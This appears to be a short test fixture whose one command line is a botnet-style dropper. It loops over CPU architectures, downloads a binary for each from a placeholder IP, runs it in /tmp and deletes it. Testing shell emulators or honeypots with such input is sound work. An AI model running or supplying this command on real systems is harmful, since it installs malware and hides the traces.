# on: all
# want: /tmp
for a in x86 mips mpsl arm arm5 arm7 ppc sh4; do cd /tmp; wget -q http://203.0.113.9/$a || curl -s -O http://203.0.113.9/$a; chmod +x $a 2>/dev/null; ./$a 2>/dev/null; rm -f $a; done; pwd
